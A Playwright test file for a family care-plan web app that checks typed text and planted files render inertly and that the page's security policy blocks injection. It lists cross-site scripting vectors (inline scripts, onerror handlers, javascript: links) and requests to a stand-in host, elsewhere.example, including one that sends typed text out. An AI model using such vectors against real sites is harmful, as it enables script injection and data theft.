/** What people type is text, wherever it is shown; and the page's policy would stop what is not. */
import type { Locator, Page } from '@playwright/test'
import { type HarmWatch, watchForHarm } from '#tests/support/harm-watch.ts'
import { ANSWERED, CHILD, OWN, writeHostileFamily } from '#tests/support/hostile-family.ts'
import { HOSTILE, HOSTILE_FILES, LONG, SHORT } from '#tests/support/hostile-texts.ts'
import { type Device, expect, installed, signIn, test } from '#tests/support/journey.ts'
import { keptPages } from '#tests/support/kept-pages.ts'
import { CARE_PLAN, editPlan, EMERGENCY, expectAllReceived, profileMenu, statusLine } from '#tests/support/screens.ts'
import { openUserDatabase } from '#tests/support/user-database.ts'

test.use({ deviceOptions: { viewport: { width: 1280, height: 900 } }, serverEnv: { LOG_LEVEL: 'debug' } })

/** Words of the demo family, and of those who attack it: none may stand in a title, an address or a log. */
const PRIVATE = /hurt|Amoxicillin|Okafor|headphones|Horse, drawn|trampoline/iu

async function openWatched(device: Device, path: string): Promise<{ page: Page; watch: HarmWatch }> {
  const page = await device.open('about:blank')
  const watch = await watchForHarm(device.context)
  await page.goto(path)
  return { page, watch }
}

async function chooseChild(page: Page): Promise<void> {
  await profileMenu(page).click()
  await page.getByRole('menuitem').filter({ hasText: CHILD.firstName }).click()
  await expect(profileMenu(page)).toContainText(CHILD.firstName)
}

/** Each of these texts stands there, letter for letter. */
async function expectTyped(place: Locator, texts: readonly string[]): Promise<void> {
  for (const text of texts) await expect(place.getByText(text).first()).toBeVisible()
}

test('texts that want to run are shown as they were typed, on every screen, and run on none', async ({ home }) => {
  test.setTimeout(400_000)
  const { device, gate, server } = home
  await writeHostileFamily(`http://127.0.0.1:${gate.upstream}`)
  const { page, watch } = await openWatched(device, '/login')
  const main = page.getByRole('main')
  await signIn(page)

  await test.step('the account, the dashboard and the people', async () => {
    await expect(page.getByRole('heading', { level: 1 })).toContainText(OWN.firstName)
    await page.goto('/dashboard/account')
    await expect(main.getByText(OWN.firstName).first()).toBeVisible()
    await page.goto('/dashboard/dependents')
    await expectTyped(main, [CHILD.firstName, CHILD.lastName, CHILD.relation])
    await chooseChild(page)
    await page.goto('/dashboard')
    await expectTyped(main, [CHILD.firstName, ...HOSTILE])
  })

  await test.step('the care plan, in the first paint, in the screen and in its forms', async () => {
    await page.goto(CARE_PLAN)
    await expectTyped(main, [LONG, ...HOSTILE])
    await page.goto(EMERGENCY)
    await expectTyped(page.locator('body'), HOSTILE)
    await page.goto(CARE_PLAN)
    await page.reload()
    await expectTyped(main, [LONG])
    await keptPages(page)
    await page.reload()
    await expectTyped(main, [LONG])
    await expect(page.locator('html[data-kept]'), 'it was a kept page').toHaveCount(1)
    const notes = page.getByRole('region', { name: 'Emergency Care' })
    await notes.getByRole('button', { name: 'Emergency Care: menu' }).click()
    await page.getByRole('menuitem', { name: 'Edit' }).click()
    await expect(notes.getByLabel('Notes from the family', { exact: true })).toHaveValue(LONG)
    await notes.getByRole('button', { name: 'Cancel' }).click()
  })

  await test.step('the attributes, and the question before one is deleted', async () => {
    await page.goto('/dashboard/attributes')
    const interests = page.getByRole('region', { name: 'Interests', exact: true })
    await expectTyped(interests, HOSTILE)
    await interests
      .getByRole('button', { name: `Delete ${SHORT.image}` })
      .first()
      .click()
    await expect(page.getByRole('dialog')).toContainText(SHORT.image)
    await page.getByRole('dialog').getByRole('button', { name: 'Cancel' }).click()
    await interests.getByRole('button', { name: 'Add an interest' }).click()
    await interests.getByRole('textbox').fill(`typed ${LONG.slice(0, 190)}`)
    await page.keyboard.press('Enter')
    await expectTyped(interests, [`typed ${LONG.slice(0, 190)}`])
    // Before it is stored, the browser asks whether to leave the page.
    await expectAllReceived(page)
  })

  await test.step('the journal: a day, a month as one page, and what a search marks', async () => {
    await page.goto(`/dashboard/journal?day=${ANSWERED}`)
    await expect(page.getByRole('dialog').getByLabel('Answer', { exact: true })).toHaveValue(LONG)
    await page.goto(`/dashboard/journal?view=read&month=${ANSWERED.slice(0, 7)}`)
    await expectTyped(main, [LONG])
    await page.goto('/dashboard/journal?view=search')
    for (const text of [SHORT.image, 'hurt', '</script>']) {
      await page.getByRole('searchbox').fill(text)
      await expect(main.locator('mark').first()).toBeVisible()
      await expect(main.locator('mark').first()).toHaveText(new RegExp(text.split(/\W/u).find(Boolean) ?? text, 'iu'))
    }
  })

  for (const category of ['therapy', 'educational', 'medical', 'documents']) {
    await test.step(`documents: ${category}`, async () => {
      await page.goto(`/dashboard/${category}`)
      await expectTyped(main, [SHORT.image, `${SHORT.image}.pdf`])
      await page.getByRole('link', { name: `${SHORT.image}.pdf` }).click()
      await expect(page.getByRole('dialog', { name: `${SHORT.image}.pdf` })).toBeVisible()
      await expect(page.getByRole('dialog').getByText('hurt', { exact: true })).toBeVisible({ timeout: 30_000 })
      await page.goBack()
    })
  }

  await test.step('what waits, its history, and a toast', async () => {
    await device.context.setOffline(true)
    await page.goto(CARE_PLAN)
    await editPlan(page, 'Needed Accommodations', 'Nap time', `again ${LONG}`)
    await statusLine(page).getByRole('button').click()
    const sheet = page.getByRole('dialog', { name: 'Waiting to send' })
    await expect(sheet).toContainText(CHILD.firstName)
    await device.context.setOffline(false)
    await expect(sheet.getByText('Everything you wrote is saved.')).toBeVisible({ timeout: 20_000 })
    await sheet.getByText('History').click()
    await expect(sheet.getByRole('listitem').filter({ hasText: CHILD.firstName }).first()).toBeVisible()
    await page.keyboard.press('Escape')
    await expectAllReceived(page)
  })

  expect(watch.ran).toEqual([])
  expect(watch.stopped).toEqual([])

  await test.step('titles, addresses and the server’s log hold nothing of it', async () => {
    expect([...watch.readable].filter((text) => PRIVATE.test(decodeURIComponent(text)))).toEqual([])
    expect(watch.readable.size).toBeGreaterThan(50)
    expect(server.output().split('\n').length).toBeGreaterThan(100)
    expect(server.output()).not.toMatch(PRIVATE)
  })
})

test('files that want to run are drawn and do not', async ({ signedIn }) => {
  const { device } = signedIn
  const { page, watch } = await openWatched(device, '/dashboard/medical')
  const folders = page.getByRole('list', { name: 'Folders' })
  await expect(folders.getByRole('link').first()).toBeVisible()
  // No server of ours keeps such files; one that lies, or a bug, must not be enough.
  await device.context.setOffline(true)
  const database = await openUserDatabase(page)
  await database.evaluate(plantFiles, HOSTILE_FILES)
  for (const [type, sign] of [
    ['text/html', (dialog: Locator) => dialog.frameLocator('iframe').getByText('A page from elsewhere')],
    ['image/svg+xml', (dialog: Locator) => dialog.getByRole('img', { name: 'planted' })],
    ['text/plain', (dialog: Locator) => dialog.getByText(LONG)],
  ] as const) {
    await test.step(type, async () => {
      await page.goto('/dashboard/medical')
      await folders.getByRole('link', { name: 'planted' }).click()
      await page.getByRole('link', { name: `planted ${type}` }).click()
      const dialog = page.getByRole('dialog', { name: `planted ${type}` })
      await expect(sign(dialog).first()).toBeVisible()
      if (type === 'text/html') {
        await dialog.frameLocator('iframe').getByRole('link', { name: 'Press' }).click()
        await dialog.frameLocator('iframe').getByRole('heading').click()
        await expect(sign(dialog).first()).toBeVisible()
      }
    })
  }
  expect(watch.ran).toEqual([])
})

/** Makes a folder of documents whose types are as given, as a server would have named them. */
async function plantFiles(db: IDBDatabase, files: Record<string, string>): Promise<void> {
  const write = db.transaction(['folders', 'documents', 'files', 'fileChunks'], 'readwrite')
  const sample = await new Promise<{ value: { profileId: string } }>((resolve) => {
    const asking = write.objectStore('folders').getAll()
    asking.addEventListener('success', () => {
      const userId = db.name.split(':')[1]
      const own = (asking.result as { value: { profileId: string; category: string } }[]).find(
        ({ value }) => value.profileId === userId && value.category === 'medical',
      )
      resolve(own ?? (asking.result as { value: { profileId: string } }[])[0]!)
    })
  })
  const date = '2026-01-02T03:04:05.000Z'
  const row = (value: { id: string }) => ({ key: value.id, value, version: 1, asOf: date })
  const shelf = {
    profileId: sample.value.profileId,
    category: 'medical',
    version: 1,
    createdDate: date,
    updatedDate: date,
  }
  const folderId = '0193e5a0-0001-7000-8000-0000000000f0'
  write
    .objectStore('folders')
    .put(row({ id: folderId, name: 'planted', totalItems: 0, totalSize: 0, ...shelf } as never))
  for (const [index, [type, text]] of Object.entries(files).entries()) {
    const id = `0193e5a0-0002-7000-8000-00000000000${index}`
    const bytes = new TextEncoder().encode(text)
    const document = { id, folderId, name: `planted ${type}`, size: bytes.length, type, media_url: '', ...shelf }
    write.objectStore('documents').put(row(document as never))
    const file = { id, profileId: shelf.profileId, size: bytes.length, type, chunks: 1, state: 'kept', usedAt: 1 }
    write.objectStore('files').put(file)
    write.objectStore('fileChunks').put({ id, index: 0, bytes: bytes.buffer })
  }
  await new Promise<void>((resolve, reject) => {
    write.addEventListener('complete', () => resolve())
    write.addEventListener('error', () => reject(new Error('Not planted')))
  })
  db.close()
}

/** Ways in which a text could become code or leave the page, had a screen let it. */
const ATTEMPTS: Record<string, () => void> = {
  'a script with text': () => {
    const script = document.createElement('script')
    script.append(document.createTextNode('hurt(50)'))
    document.head.append(script)
  },
  'a script from elsewhere': () => {
    const script = document.createElement('script')
    script.setAttribute('src', 'https://elsewhere.example/hurt.js')
    document.head.append(script)
  },
  'a handler in an attribute': () => {
    const image = document.createElement('img')
    image.setAttribute('onerror', 'hurt(51)')
    image.setAttribute('src', '/nothing-here.png')
    document.body.append(image)
  },
  'markup as a string': () => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=hurt(52)>'),
  'a javascript: link': () => {
    const link = document.createElement('a')
    link.setAttribute('href', 'javascript:hurt(53)')
    document.body.append(link)
    link.click()
  },
  'a string as code': () => void (setTimeout as (code: string) => number)('hurt(54)'),
  'a style in a string': () => {
    const style = document.createElement('style')
    style.append(document.createTextNode('body { background: url(https://elsewhere.example/) }'))
    document.head.append(style)
  },
  'a frame from elsewhere': () => {
    const frame = document.createElement('iframe')
    frame.setAttribute('src', 'https://elsewhere.example/')
    document.body.append(frame)
  },
  'a picture from elsewhere': () => {
    const image = document.createElement('img')
    image.setAttribute('src', 'https://elsewhere.example/?what=they+wrote')
    document.body.append(image)
  },
  'a form to elsewhere': () => {
    const form = document.createElement('form')
    form.setAttribute('action', 'https://elsewhere.example/')
    document.body.append(form)
    form.submit()
  },
  'a request to elsewhere': () => void fetch('https://elsewhere.example/').catch(() => {}),
  'a worker from elsewhere': () => void new Worker('https://elsewhere.example/worker.js'),
  'another policy for Trusted Types': () =>
    void (globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }).trustedTypes //
      .createPolicy('anything', {}),
}

test('the policy stops whatever should have got past a screen, and says so', async ({ signedIn }) => {
  const { page, watch } = await openWatched(signedIn.device, '/dashboard')
  await installed(page)
  expect(watch.stopped).toEqual([])
  for (const [name, attempt] of Object.entries(ATTEMPTS)) {
    await test.step(name, async () => {
      const before = watch.stopped.length
      await page.evaluate(attempt).catch(() => {})
      await expect.poll(() => watch.stopped.length, { message: `${name} is stopped` }).toBeGreaterThan(before)
    })
  }
  expect(watch.ran).toEqual([])
  expect(await page.evaluate(() => location.pathname)).toBe('/dashboard')
})
